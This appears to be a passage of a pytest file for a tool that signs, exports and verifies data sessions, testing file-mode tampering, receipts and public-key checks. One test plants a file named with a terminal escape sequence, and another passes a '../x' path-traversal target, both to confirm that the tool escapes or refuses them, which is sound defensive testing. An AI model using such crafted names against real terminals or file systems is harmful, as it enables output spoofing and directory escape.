    (lambda data: (data / "a.csv").chmod(0o777), "file a.csv has the mode 0777, its receipt says 0644"),
    (lambda data: (data / "a.csv").chmod(0o755), "file a.csv has the mode 0755, its receipt says 0644"),
    (lambda data: (data / "a.csv").chmod(0o4644), "file a.csv has the mode 4644, its receipt says 0644"),
    (lambda data: (data / "dir").chmod(0o777), "directory dir has the mode 0777"),
    (lambda data: data.chmod(0o777), "directory . has the mode 0777"),
])  # fmt: skip
def test_what_was_added_to_an_export_is_named(exported: Path, add: Callable[[Path], object], named: str) -> None:
    add(exported / "files")

    assert verify.check(from_directory(exported)).problem == named


@pytest.mark.parametrize("umask", [0o002, 0o022, 0o077])
def test_an_export_may_lose_permissions_on_its_way(told: Author, exported: Path, tmp_path: Path, umask: int) -> None:
    before = os.umask(umask)
    try:
        shutil.copytree(exported, tmp_path / "copy", copy_function=shutil.copyfile)
        write_export(SESSION, tmp_path / "again", home=told.home)
    finally:
        os.umask(before)

    for directory in (tmp_path / "copy", tmp_path / "again"):
        assert verify.check(from_directory(directory)).problem == ""


def test_a_session_that_is_not_right_is_not_exported(told: Author, tmp_path: Path) -> None:
    _flip(told.data / "a.csv", 0)

    with pytest.raises(VerifyFailed, match=r"file a\.csv is not what its receipt says"):
        write_export(SESSION, tmp_path / "out", home=told.home)


# -- the commands ------------------------------------------------------------------------------------------------


def test_verify_takes_an_id_a_sessions_directory_or_an_export(told: Author, exported: Path) -> None:
    for target in (SESSION, str(told.directory), str(exported)):
        assert check_session(target, home=told.home, public_key=None, as_json=False) == 0


def test_verify_needs_only_the_public_key(told: Author, exported: Path, tmp_path: Path) -> None:
    trusted = tmp_path / "trusted.pem"
    trusted.write_bytes(told.key.public_pem)
    shutil.rmtree(told.home / "keys")

    assert check_session(SESSION, home=told.home, public_key=trusted, as_json=False) == 0
    assert check_session(str(exported), home=None, public_key=trusted, as_json=False) == 0


def test_verify_with_another_key_fails(exported: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    SigningKey.load_or_create(tmp_path / "other")

    code = check_session(str(exported), home=None, public_key=tmp_path / "other" / "ed25519.pub.pem", as_json=True)

    assert code == 1
    assert json.loads(capsys.readouterr().out)["problem"].startswith("receipt 1: ")


def test_verify_tells_the_problem_and_exits_with_1(told: Author, capsys: pytest.CaptureFixture[str]) -> None:
    (told.data / "\x1b]0;evil\x07").touch()

    assert check_session(SESSION, home=told.home, public_key=None, as_json=False) == 1
    assert "WRONG: session 3f9a01bc77: file \\x1b]0;evil\\x07 is in no manifest" in capsys.readouterr().out


@pytest.mark.parametrize("target", ["nosuch", "/no/such/directory", "../x"])
def test_a_target_that_is_not_there_is_an_error_of_the_caller(told: Author, target: str) -> None:
    with pytest.raises(HoldfastError) as refused:
        check_session(target, home=told.home, public_key=None, as_json=False)

    assert isinstance(refused.value, (SessionUnknown, InvalidSetting))


def test_export_says_how_to_check_it(told: Author, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert export(SESSION, tmp_path / "out", home=told.home) == 0
    assert "sha256sum -c ../manifest-sha256.txt" in capsys.readouterr().out


def test_a_session_without_receipts_cannot_be_exported(author: Author, tmp_path: Path) -> None:
    with pytest.raises(InvalidSetting, match="no receipt yet"):
        export(SESSION, tmp_path / "out", home=author.home)


def test_an_unknown_session_is_told_with_those_that_exist(told: Author) -> None:
    with pytest.raises(SessionUnknown) as refused:
        from_home(told.store, "nosuch", told.home)

    assert SESSION in refused.value.hint
    assert evidence.receipt_name(1_000_000) == "1000000.json"
